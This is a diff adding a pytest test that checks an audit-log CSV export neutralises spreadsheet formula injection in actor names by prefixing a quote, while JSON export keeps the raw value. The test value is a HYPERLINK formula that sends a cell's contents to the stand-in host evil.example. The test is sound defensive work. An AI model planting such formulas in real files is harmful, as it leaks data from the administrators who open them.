@@ -156,6 +156,17 @@ def test_an_export_has_every_row_once_oldest_first_however_many() -> None:
     assert json.loads("".join(as_json_lines(AuditEntry.objects.none()))) == []
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", ";", "\t"], ids=ascii)
+def test_a_name_in_an_exported_table_is_no_formula(start: str) -> None:
+    """Name it as those can who make deploy tokens; who opens the table is an administrator."""
+    name = f'{start}HYPERLINK("https://evil.example/?"&A1,"x")'
+    change_user(new_user(), by=Actor(name=name), name="x")
+    text = "".join(as_csv_lines(AuditEntry.objects.all()))
+    assert list(csv.DictReader(io.StringIO(text)))[-1]["actor_name"] == f"'{name}"
+    found = json.loads("".join(as_json_lines(AuditEntry.objects.all())))
+    assert found[-1]["actor_name"] == name
+
+
 def test_an_export_is_bounded_in_time_by_its_ends() -> None:
     project, now = new_project(), timezone.now()
     change_project(project, by=COMMAND_LINE, description="x")
